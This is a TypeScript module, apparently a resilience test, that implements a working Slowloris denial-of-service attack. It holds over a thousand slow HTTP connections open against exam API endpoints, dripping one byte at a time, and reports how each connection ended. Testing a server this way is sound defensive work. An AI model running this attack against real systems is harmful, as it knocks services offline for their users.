import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { besides, type Noticed, type Target } from './bystander.ts';

const BODIES = 512;
const HEADS = 512;
const LASTS_MS = 20_000;
const BYTE_EVERY_MS = 2_000;

/**
 * Slowloris: 512 bodies and 512 headers from one address, sent byte by byte with pauses; closed connections are
 * reopened.
 */
export async function sendSlowly(target: Target): Promise<Noticed> {
  return besides(target, async () => {
    const until = performance.now() + LASTS_MS;
    const ends: Record<string, number> = {};
    const count = (end: string) => (ends[end] = (ends[end] ?? 0) + 1);
    const beginnings = [
      ...Array.from({ length: BODIES }, () => slowBody(target)),
      ...Array.from({ length: HEADS }, () => 'GET /api/exams/exam-cards/ HTTP/1.1\r\nhost: here\r\nx-slow: '),
    ];
    await Promise.all(
      beginnings.map(async (beginning) => {
        while (performance.now() < until) count(await sendOne(target.origin, beginning, until));
      }),
    );
    return ends;
  });
}

const slowBody = ({ paperId, csrf }: Target): string =>
  `POST /api/exams/cet-content/${paperId}/save_draft/ HTTP/1.1\r\nhost: here\r\ncookie: csrftoken=${csrf}\r\n` +
  `x-csrftoken: ${csrf}\r\ncontent-type: application/json\r\ncontent-length: 400\r\n\r\n{`;

/** Sends until the connection is closed or the attack ends; returns how it ended. */
async function sendOne(origin: string, beginning: string, until: number): Promise<string> {
  const { hostname, port } = new URL(origin);
  const socket: Socket = connect(Number(port), hostname);
  let heard = '';
  let isClosed = false;
  socket.setEncoding('latin1').on('data', (text: string) => (heard += text));
  socket.on('error', () => undefined);
  socket.once('close', () => (isClosed = true));
  socket.write(beginning);
  while (!isClosed && performance.now() < until) {
    await wait(BYTE_EVERY_MS);
    if (socket.writable) socket.write('1');
  }
  socket.destroy();
  if (!isClosed) return 'open to the end';
  return /^HTTP\/1\.1 (\d+)/.exec(heard)?.[1] ?? 'closed';
}
